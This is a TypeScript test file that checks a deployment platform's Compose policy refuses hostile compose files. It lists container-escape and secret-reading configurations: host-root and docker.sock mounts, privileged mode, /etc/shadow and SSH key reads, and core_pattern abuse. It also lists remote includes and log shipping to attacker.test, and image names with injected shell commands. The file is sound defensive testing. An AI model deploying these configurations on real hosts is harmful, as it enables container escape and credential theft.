// What has been tried against platforms that run other people's compose files, resolved by the real Compose.

import { adaptModel } from '@shipway/rules/compose/adapt/adapt-model'
import type { JsonObject } from '@shipway/rules/compose/model'
import { checkBuildVariables } from '@shipway/rules/compose/policy/check-build-variables'
import { checkCompose } from '@shipway/rules/compose/policy/check-compose'
import { checkComposeSource } from '@shipway/rules/compose/policy/check-compose-source'
import { printComposeModel, readComposeModel } from '@shipway/rules/compose/read-compose-model'
import { expect, test } from 'vitest'
import { hasCompose, PROJECT, resolve } from '../../../../../rules/test/compose.ts'

/** The whole file; who must refuse it, and at which key. `meaning`: it means something harmless, which is reported at the key. */
type Hostile = readonly [file: JsonObject, by: 'source' | 'model' | 'compose' | 'meaning', key: string]

const ofService = (service: JsonObject): JsonObject => ({ services: { web: { image: 'alpine', ...service } } })
const built = (build: JsonObject): JsonObject => ({ services: { web: { build: { context: '.', ...build } } } })
const withTop = (top: JsonObject, service: JsonObject = {}): JsonObject => ({ ...ofService(service), ...top })

/** The environment has a secret variable TOKEN. */
const variables = { custom: new Map([['TOKEN', { isForBuilds: false }]]), defaults: new Map(), directory: '/checkout' }

const hostile: readonly Hostile[] = [
  [ofService({ volumes: ['/:/host'] }), 'model', 'services.web.volumes[0].source'],
  [ofService({ volumes: [{ type: 'bind', source: '/etc', target: '/e' }] }), 'model', 'services.web.volumes[0].source'],
  [ofService({ volumes: ['../other:/o'] }), 'model', 'services.web.volumes[0].source'],
  [ofService({ volumes: ['./a/../../other:/o'] }), 'model', 'services.web.volumes[0].source'],
  [ofService({ volumes: ['~/.ssh:/s'] }), 'model', 'services.web.volumes[0].source'],
  [ofService({ volumes: ['/var/run/docker.sock:/s'] }), 'model', 'services.web.volumes[0].source'],
  [ofService({ network_mode: 'host' }), 'model', 'services.web.network_mode'],
  [ofService({ network_mode: 'bridge' }), 'model', 'services.web.network_mode'],
  [ofService({ network_mode: 'container:other' }), 'model', 'services.web.network_mode'],
  [ofService({ userns_mode: 'host' }), 'model', 'services.web.userns_mode'],
  [ofService({ pid: 'host' }), 'model', 'services.web.pid'],
  [ofService({ privileged: true }), 'model', 'services.web.privileged'],
  [ofService({ cap_add: ['ALL'] }), 'model', 'services.web.cap_add'],
  [ofService({ cap_add: ['SYS_ADMIN'] }), 'model', 'services.web.cap_add'],
  [ofService({ devices: ['/dev/sda:/dev/sda'] }), 'model', 'services.web.devices'],
  [ofService({ security_opt: ['apparmor=unconfined'] }), 'model', 'services.web.security_opt[0]'],
  [ofService({ cgroup_parent: '/' }), 'model', 'services.web.cgroup_parent'],
  [ofService({ sysctls: { 'kernel.core_pattern': '|/x' } }), 'model', 'services.web.sysctls'],
  [ofService({ container_name: 'other-env-web-1' }), 'meaning', 'services.web.container_name'],
  [ofService({ ports: ['0.0.0.0:22:22'] }), 'meaning', 'services.web.ports'],
  [ofService({ ports: ['80'] }), 'meaning', 'services.web.ports'],
  [withTop({ networks: { default: { external: true, name: 'env-8_default' } } }), 'meaning', 'networks.default'],
  [withTop({ volumes: { v: { name: 'env-8_data' } } }, { volumes: ['v1:/v'] }), 'compose', 'undefined volume'],
  [withTop({ volumes: { data: { name: 'env-8_data' } } }, { volumes: ['data:/v'] }), 'meaning', 'volumes.data.name'],
  [
    withTop({ volumes: { data: { driver_opts: { type: 'none', o: 'bind', device: '/' } } } }, { volumes: ['data:/v'] }),
    'model',
    'volumes.data.driver_opts',
  ],
  [withTop({ include: ['oci://attacker.test/base:v2'] }), 'source', 'include[0]'],
  [withTop({ include: ['https://attacker.test/base.git'] }), 'source', 'include[0]'],
  [ofService({ extends: { file: '/srv/env-8/compose.yml', service: 'web' } }), 'source', 'services.web.extends.file'],
  [built({ context: '../../..' }), 'model', 'services.web.build.context'],
  [built({ context: 'https://attacker.test/x.git' }), 'model', 'services.web.build.context'],
  [built({ additional_contexts: { r: '/' } }), 'model', 'services.web.build.additional_contexts.r'],
  [built({ dockerfile: '../../Dockerfile' }), 'model', 'services.web.build.dockerfile'],
  [built({ args: { TOKEN: '${TOKEN}' } }), 'source', 'services.web.build.args.TOKEN'],
  [built({ args: ['TOKEN'] }), 'source', 'services.web.build.args[0]'],
  [built({ network: 'host' }), 'model', 'services.web.build.network'],
  [built({ entitlements: ['security.insecure'] }), 'model', 'services.web.build.entitlements'],
  [built({ tags: ['shipway-main-8-web:3'] }), 'model', 'services.web.build.tags'],
  [withTop({ secrets: { s: { file: '/etc/shadow' } } }, { secrets: ['s'] }), 'model', 'secrets.s.file'],
  [withTop({ configs: { c: { file: '/root/.ssh/id_rsa' } } }, { configs: ['c'] }), 'model', 'configs.c.file'],
  [ofService({ env_file: ['/srv/env-8/.env'] }), 'source', 'services.web.env_file[0]'],
  [ofService({ labels: { 'com.docker.compose.project': 'env-8' } }), 'model', labelKey('com.docker.compose.project')],
  [ofService({ labels: ['shipway.environment=8'] }), 'model', labelKey('shipway.environment')],
  [ofService({ restart: 'always', deploy: { replicas: 10000 } }), 'model', 'services.web.deploy.replicas'],
  [ofService({ runtime: 'runc-evil' }), 'model', 'services.web.runtime'],
  [ofService({ provider: { type: 'evil-binary' } }), 'compose', 'provider'],
  [ofService({ use_api_socket: true }), 'compose', 'use_api_socket'],
  [ofService({ gpus: 'all' }), 'model', 'services.web.gpus'],
  [
    ofService({ logging: { driver: 'syslog', options: { 'syslog-address': 'tcp://attacker.test:514' } } }),
    'model',
    'services.web.logging.driver',
  ],
  [ofService({ image: 'alpine;id' }), 'model', 'services.web.image'],
  [ofService({ image: '--privileged' }), 'model', 'services.web.image'],
  [ofService({ image: '$(id)' }), 'model', 'services.web.image'],
  [ofService({ image: 'shipway-main-8-web:12' }), 'model', 'services.web.image'],
]

test.skipIf(!hasCompose).each(hostile)('%j is refused by the %s at %s', async (file, by, key) => {
  const source = checkComposeSource(file, { file: 'compose.yml', folder: '.' })
  const { refusals: inBuilds } = checkBuildVariables(file, variables)
  expect([...source.refusals, ...inBuilds].map((refusal) => refusal.key)).toEqual(by === 'source' ? [key] : [])
  if (by === 'source') return
  const { checkout, text, refused } = await resolve({ 'compose.yml': file, Dockerfile: 'FROM scratch\n' })
  if (by === 'compose') return expect(refused).toContain(key)
  expect(refused).toBeNull()
  const routed = new Set(['web'])
  const { model, notes } = adaptModel(readComposeModel(text), { grants: new Set(), routed })
  const refusals = checkCompose(model, {
    checkout,
    platformFolder: '/srv/shipway',
    variablesFile: '/srv/variables.env',
    projectName: PROJECT,
    grants: new Set(),
    routed,
  })
  if (by === 'model') return expect(refusals.map((refusal) => refusal.key)).toContain(key)
  expect(refusals).toEqual([])
  expect(notes.map((note) => note.key)).toContain(key)
  // No name or port of another environment, or of the machine, is left.
  expect(printComposeModel(model)).not.toMatch(/env-8|container_name|"ports"|external/)
})

test.skipIf(!hasCompose)("the name of the project is the platform's, whatever the file says", async () => {
  const { text } = await resolve({ 'compose.yml': withTop({ name: 'env-8' }) })
  expect(text).not.toContain('env-8')
  expect(checkComposeSource(withTop({ name: 'env-8' }), { file: 'compose.yml', folder: '.' }).refusals).toEqual([])
})

function labelKey(name: string): string {
  return `services.web.labels["${name}"]`
}

test.skipIf(!hasCompose)('a usual file of several services passes', async () => {
  const file = {
    version: '3.9',
    'x-common': { restart: 'always' },
    services: {
      web: {
        build: { context: '.', dockerfile: 'docker/Dockerfile', args: { A: '1' }, target: 'run', labels: { a: 'b' } },
        command: ['serve', '$$HOME'],
        environment: { URL: 'postgres://db', EMPTY: null },
        env_file: ['.env.example', { path: 'absent.env', required: false }],
        depends_on: { db: { condition: 'service_healthy' }, migrate: { condition: 'service_completed_successfully' } },
        volumes: ['./static:/static:ro', { type: 'tmpfs', target: '/tmp', tmpfs: { size: 1000 } }, '/cache'],
        networks: { front: { aliases: ['app'] }, default: null },
        healthcheck: { test: 'true', interval: '5s' },
        deploy: { resources: { limits: { cpus: '0.5', memory: '64m' } }, restart_policy: { condition: 'any' } },
        logging: { driver: 'json-file', options: { 'max-size': '10m' } },
        secrets: ['token'],
        configs: [{ source: 'site', target: '/site.conf' }],
        security_opt: ['no-new-privileges:true'],
        ulimits: { nofile: { soft: 1024, hard: 4096 } },
        extra_hosts: ['a:10.0.0.1'],
        develop: { watch: [{ path: '.', action: 'rebuild' }] },
        labels: { 'app.name': 'web' },
        cap_drop: ['ALL'],
      },
      migrate: { build: '.', command: 'migrate', restart: 'no' },
      db: {
        image: 'postgres:16-alpine',
        volumes: ['data:/var/lib/postgresql/data'],
        expose: ['5432'],
        shm_size: '64m',
      },
    },
    networks: { front: { internal: true } },
    volumes: { data: null },
    secrets: { token: { file: './token' } },
    configs: { site: { content: 'a' } },
  }
  expect(checkComposeSource(file, { file: 'compose.yml', folder: '.' }).refusals).toEqual([])
  const { checkout, text, refused } = await resolve({ 'compose.yml': file, '.env.example': 'A=1\n', token: 'x' })
  expect(refused).toBeNull()
  const check = {
    checkout,
    platformFolder: '/srv/shipway',
    variablesFile: '/v',
    projectName: PROJECT,
    grants: new Set<never>(),
    routed: new Set(['web']),
  }
  expect(checkCompose(readComposeModel(text), check)).toEqual([])
})
